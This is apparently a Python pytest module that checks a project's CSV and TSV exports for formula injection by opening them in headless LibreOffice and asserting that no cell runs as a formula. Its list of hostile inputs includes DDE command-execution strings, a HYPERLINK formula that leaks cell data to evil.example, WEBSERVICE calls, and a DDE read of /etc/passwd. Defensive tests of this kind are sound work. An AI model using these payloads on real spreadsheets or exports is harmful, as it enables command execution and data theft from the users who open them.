"""Attack 15: what strangers typed, exported as CSV and TSV, opened in LibreOffice. No cell of it is run as a formula.

LibreOffice is told to run formulas, as by people who say yes: a table that was not made harmless shows that it does.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
from pathlib import Path

import pytest
from lxml import etree

from multisession.project.store.interface import TaskBundle
from tests.needs import PACKAGES_OF_FULL, executable, install_command
from tests.project.exporters.bundles import annotation, task, written

pytestmark = [pytest.mark.anyio, pytest.mark.full]

#: what people type who mean harm, and what they might have meant well
HOSTILE = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,2)", "=cmd|'/c calc'!A0", "+cmd|'/c calc'!A0", "-2+3+cmd|'/c calc'!A0",
    "@cmd|'/c calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff201", '=HYPERLINK("http://evil.example/?"&A1,"look")', '"=1+1"',
    '""=1+1', '"=1+1', "'=1+1", "''=1+1", ",=1+1", ";=1+1", "a\n=1+1", "a\t=1+1", "a,=1+1", 'a",=1+1,"', 'a"\t=1+1\t"',
    'a"\n=1+1\n"', "=WEBSERVICE(\"http://evil.example\")", "=IMPORTXML(A1,\"//a\")",
    "=DDE(\"soffice\";\"/etc/passwd\";\"1\")", "={1+1}", "{=1+1}", "==1+1", "=-1", "=A1", "=SUM(A1:A9)", "-A1", "+A1",
    "=$A$1", "=#REF!", "=TRUE", "\x0b=1+1", "\x0c=1+1", "\u2028=1+1", "\u3000=1+1", "=1+1\0", "\u221212+3", "%0A=1+1",
    "--1", "+-1", "=", "+", "-", "@", "\uff1d",
)  # fmt: skip
#: fields separated by , or tab (44, 9), UTF-8 (76), from line 1, numbers and dates found, formulas run
FILTER = "Text - txt - csv (StarCalc):{separator},34,76,1,,0,false,true,false,false,false,-1,true"
NAMESPACES = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}
SEPARATORS = {"CSV": (",", 44), "TSV": ("\t", 9)}


class Sheet:
    """What LibreOffice made of a table."""

    def __init__(self, document: Path) -> None:
        root = etree.parse(document).getroot()
        self.formulas = root.xpath("//@table:formula", namespaces=NAMESPACES)
        self.links = root.xpath("//text:a", namespaces=NAMESPACES)
        self.rows = [self._cells(row) for row in root.iterfind(".//table:table-row", NAMESPACES)]

    def _cells(self, row: etree._Element) -> list[str]:
        return [self._text(cell) for cell in row.iterfind("table:table-cell", NAMESPACES) for _ in range(_times(cell))]

    def _text(self, cell: etree._Element) -> str:
        return plain("".join("".join(part.itertext()) for part in cell.iterfind("text:p", NAMESPACES)))


def plain(text: str) -> str:
    """Without white space and controls, which a document writes in its own way or not at all."""
    return re.sub(r"[\s\x00-\x1f]", "", text)


def _times(cell: etree._Element) -> int:
    return min(int(cell.get(f"{{{NAMESPACES['table']}}}number-columns-repeated", "1")), 1_000)


def opened(table: bytes, format: str, directory: Path) -> Sheet:
    """The table as LibreOffice shows it, with every formula calculated."""
    office = executable("soffice")
    assert office, f"LibreOffice is not installed. Install it: {install_command(PACKAGES_OF_FULL)}"
    source = directory / f"table.{format.lower()}"
    source.write_bytes(table)
    done = subprocess.run(
        [
            office, f"-env:UserInstallation={(directory / 'profile').as_uri()}", "--headless", "--norestore",
            f"--infilter={FILTER.format(separator=SEPARATORS[format][1])}", "--convert-to", "fods",
            "--outdir", str(directory), str(source),
        ],
        capture_output=True, timeout=120, check=False,
    )  # fmt: skip
    assert done.returncode == 0 and (directory / "table.fods").is_file(), done.stderr[-1000:]
    return Sheet(directory / "table.fods")


async def exported(format: str) -> bytes:
    """A project in which every text that somebody can write is hostile: data, their keys, answers, times."""
    bundles = []
    for number, text in enumerate(HOSTILE, 1):
        data = json.dumps({"text": text, text: text, "list": [text], "of": {text: text}}).encode()
        choices = [{"from_name": "s", "type": "choices", "value": {"choices": [text]}}]
        written_down = [{"from_name": "=t", "type": "textarea", "value": {"text": [text]}}]
        result = json.dumps(choices + written_down).encode()
        bundles.append(TaskBundle(task=task(number, data), annotations=[annotation(number, number, result)]))
    return await written(format, bundles, controls={"s": "Choices", "=t": "TextArea"})


def test_the_office_does_run_formulas(tmp_path: Path) -> None:
    sheet = opened(b'"a","=1+2"\n"=1+1","b"\n', "CSV", tmp_path)
    assert sheet.formulas == ["of:=1+2", "of:=1+1"]
    assert sheet.rows[1] == ["2", "b"]


@pytest.mark.parametrize("format", SEPARATORS)
async def test_no_cell_is_a_formula(format: str, tmp_path: Path) -> None:
    table = await exported(format)
    sheet = opened(table, format, tmp_path)
    assert (sheet.formulas, sheet.links) == ([], [])
    rows = list(csv.reader(io.StringIO(table.decode(), newline=""), delimiter=SEPARATORS[format][0]))
    assert len(sheet.rows) == len(rows) == len(HOSTILE) + 1
    assert len(rows[0]) >= len(HOSTILE)
    column = rows[0].index("text")
    for shown, row in zip(sheet.rows, rows, strict=True):
        assert shown[column] == plain(row[column])
    for name, cell in zip(rows[0], sheet.rows[0], strict=True):
        assert cell == plain(name)
